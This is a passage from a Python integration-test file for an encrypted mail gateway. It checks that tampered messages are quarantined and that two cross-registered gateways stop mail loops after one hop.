                check(probe not in data, f"plaintext of the tampered message in {name}")

        # The Quarantine folder holds the message as it arrived (after the trace headers Postfix adds).
        gw = net.gateway_persona.email
        held = net.stack.fetch(gw, net.passwords[gw], "Quarantine")
        check(len(held) == 1 and held[0][1].endswith(eml), f"{len(held)} in Quarantine; "
              f"{len(held[0][1]) if held else 0} bytes, sent {len(eml)}")
        check(net.gateway_folder("INBOX") == 0 and net.gateway_folder("Processed") == 0, "filing")
        check(net.stop_gateway() == 0, f"SIGTERM; log:\n{net.tail()}")
    finally:
        net.close()


# --------------------------------------------------------------------------- two gateways


def two_gateways_stop_after_one_hop() -> None:
    """The Secretariat's gateway and Austria's national gateway on one mail
    stack, each registered in the other's directory in place of the party it
    stands for (the Secretariat's directory lists AT's NFP at the national
    gateway's address with its certificate; the national directory lists
    the Secretariat at the Secretariat gateway's address with its
    certificate), so that each forwards to the other. FR asks AT through the
    Secretariat's gateway, AT's NFP asks the Secretariat through its national
    gateway: each gateway forwards once and acknowledges its sender; each
    quarantines the other's forward as `loop` (Auto-Submitted:
    auto-generated) and sends nothing about it. After a quiet period each
    store holds two messages and two outgoing mails: no ping-pong."""
    net = Net("twogw")
    try:
        w = net.w
        sec_gw, nat_gw = w.p["gateway"], w.p["gateway-at"]
        sec_dir = net.dir / "net" / "secretariat" / "directory.toml"
        text = sec_dir.read_text()
        for old, new in ((f'email = "{w.p["AT"].email}"', f'email = "{nat_gw.email}"'),
                         ('cert = "../certs/AT.asc"', 'cert = "../certs/gateway-at.asc"')):
            check(text.count(old) == 1, f"{old} in {sec_dir}")
            text = text.replace(old, new)
        sec_dir.write_text(text)
        national = net.add_gateway("national-at")
        nat_dir = national.config.parent / "directory.toml"
        text = nat_dir.read_text()
        for old, new in ((f'email = "{w.p["secretariat"].email}"', f'email = "{sec_gw.email}"'),
                         ('cert = "../certs/secretariat.asc"', 'cert = "../certs/gateway.asc"')):
            check(text.count(old) == 1, f"{old} in {nat_dir}")
            text = text.replace(old, new)
        nat_dir.write_text(text)

        to_secretariat_gw = pgp_mail(net, "FR", "[DEMANDE D'INFORMATION] [AT] Contrôles douaniers",
                                     [mm.text(BODY_FR)])
        to_national_gw = pgp_mail(net, "AT", "[REQUEST] Erfahrungsaustausch für die Grenzpolizei",
                                  [mm.text(BODY_DE)], gateway="gateway-at")
        net.send(to_secretariat_gw)
        net.stack.send(w.p["AT"].email, [nat_gw.email], to_national_gw, port="smtp")
        net.start_gateway()
        national.start()

        sec_rows = net.wait_rows("SELECT id FROM inbound WHERE imap_state = 'filed'", 2, timeout=40)
        nat_rows = national.wait_rows("SELECT id FROM inbound WHERE imap_state = 'filed'", 2, timeout=40)
        check(len(sec_rows) == 2 and len(nat_rows) == 2,
              f"filed: secretariat {len(sec_rows)}, national {len(nat_rows)}\n{net.tail()}\n{national.tail()}")
        time.sleep(6)  # a second hop would have been sent, delivered and fetched by now (poll 1 s)

        sec = net.rows("SELECT verdict, reason, sender_party, envelope_from FROM inbound ORDER BY id")
        nat = national.rows("SELECT verdict, reason, sender_party, envelope_from FROM inbound ORDER BY id")
        check(sorted(sec, key=str) == sorted([("accepted", None, "FR", w.p["FR"].email),
                                              ("quarantined", "loop", None, nat_gw.email)], key=str),
              f"the Secretariat's gateway stored {sec}")
        check(sorted(nat, key=str) == sorted([("accepted", None, "AT", w.p["AT"].email),
                                              ("quarantined", "loop", None, sec_gw.email)], key=str),
              f"the national gateway stored {nat}")
        for rows in (net.rows("SELECT detail FROM inbound WHERE reason = 'loop'"),
                     national.rows("SELECT detail FROM inbound WHERE reason = 'loop'")):
            check("auto-generated" in rows[0][0].lower() or "auto-submitted" in rows[0][0].lower(), f"{rows}")
        sec_out = net.rows("SELECT purpose, recipient_party, recipient_email, state FROM outbox ORDER BY id")
        nat_out = national.rows("SELECT purpose, recipient_party, recipient_email, state FROM outbox ORDER BY id")
        check(sorted(sec_out) == sorted([("forward", "AT", nat_gw.email, "sent"),
                                         ("acknowledgement", "FR", w.p["FR"].email, "sent")]),
              f"the Secretariat's gateway sent {sec_out}")
        check(sorted(nat_out) == sorted([("forward", "secretariat", sec_gw.email, "sent"),
                                         ("acknowledgement", "AT", w.p["AT"].email, "sent")]),
              f"the national gateway sent {nat_out}")
        check(net.gateway_folder("Quarantine") == 1 and national.folder("Quarantine") == 1, "Quarantine folders")
        check(net.count("FR") == 1 and net.count("AT") == 1, "the senders' acknowledgements")
        for pid in ("secretariat", "DE", "at-customs", "at-border-police", "at-migration", "at-anti-drug"):
            check(net.count(pid) == 0, f"{pid} received mail")
        ack = net.mailbox("AT")[0]
        check(ack.decrypted and any(s.startswith("GOODSIG ") and s.split()[1] in w.subkeys(nat_gw) for s in ack.status),
              f"AT's acknowledgement is not signed by the national gateway: {ack.status}")
        check(national.stop() == 0 and net.stop_gateway() == 0, "SIGTERM")
    finally:
        net.close()


SCENARIOS = [
    output_injection,
    no_address_from_a_message_is_ever_written_to,
    html_is_never_rendered_into_the_gateways_text,
    keys_are_never_imported_from_mail,
    large_tampered_message,
    two_gateways_stop_after_one_hop,
]
